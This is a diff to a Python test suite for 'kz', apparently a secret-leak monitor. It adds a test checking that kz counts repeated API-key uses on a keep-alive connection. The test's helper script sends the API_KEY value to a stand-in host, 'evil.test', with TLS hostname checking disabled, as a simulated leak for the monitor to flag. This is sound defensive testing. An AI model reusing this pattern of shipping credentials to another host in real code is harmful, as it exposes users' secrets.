@@ -38,6 +38,30 @@ with open(sys.argv[2]) as f:
 '''
 
 
+# Five requests with the value on one keep-alive connection to localhost (argv[1] is the
+# port), then one on a connection that names evil.test (the same server).
+KEEPALIVE = r'''
+import http.client, os, socket, ssl, sys
+port, ca = int(sys.argv[1]), sys.argv[2]
+ctx = ssl.create_default_context(cafile=ca)
+c = http.client.HTTPSConnection("localhost", port, context=ctx, timeout=20)
+for i in range(5):
+    c.request("GET", "/v1/keep-%d" % i, headers={"X-Api-Key": os.environ["API_KEY"]})
+    r = c.getresponse()
+    r.read()
+    print(i, r.status, flush=True)
+c.close()
+loose = ssl.create_default_context(cafile=ca)
+loose.check_hostname = False
+with socket.create_connection(("127.0.0.1", port), timeout=20) as raw:
+    with loose.wrap_socket(raw, server_hostname="evil.test") as s:
+        s.sendall(b"GET /v1/keep-evil HTTP/1.1\r\nHost: evil.test\r\nX-Api-Key: " + os.environ["API_KEY"].encode() +
+                  b"\r\nConnection: close\r\n\r\n")
+        while s.recv(4096):
+            pass
+'''
+
+
 # Passes a descriptor of a marker file to kz's witness socket (a process of the run may
 # connect to it), waits until kz hangs up, then prints every other process still holding
 # the marker: kz must close what it never asked for.
@@ -139,6 +163,21 @@ class WitnessTest(KillKeepsBoundTraffic, SensorCase):
         programs = {os.path.basename(p["exe"]): p["witness"] for p in s.get("programs", [])}
         self.assertEqual(programs.get("curl"), "shim", s)
         self.assertEqual(programs.get(os.path.basename(PY)), "shim", s)
+        self.assertNoCanaryInAudit()
+
+    def test_keep_alive_uses_of_a_bound_host_are_all_counted(self):
+        # One connection, five requests with the value to its bound host (by server
+        # name), then one to the same server under another name: the first bound use
+        # is asked of kz, the other four are counted in process (on the server name
+        # alone) and reported at exit; the other name is still a leak.
+        script = self.write("keepalive.py", KEEPALIVE)
+        r = self.run_std(PY, script, str(self.port), self.ca["ca"])
+        self.assertEqual(r.returncode, 0, self.diag(r))
+        self.assertEqual(len(self.records(self.rec, "/v1/keep-")), 6, self.diag(r))
+        s = self.summary()
+        self.assertIn({"secret": "API_KEY", "host": "localhost", "form": "value", "writes": 5}, s.get("uses"), s)
+        leaks = self.assertAudited("leak", secret="API_KEY")
+        self.assertEqual([l.get("host") for l in leaks], ["evil.test"], self.diag(r))
         self.assertNoCanaryInAudit()
 
     def test_on_leak_kill_refuses_the_write_in_process(self):
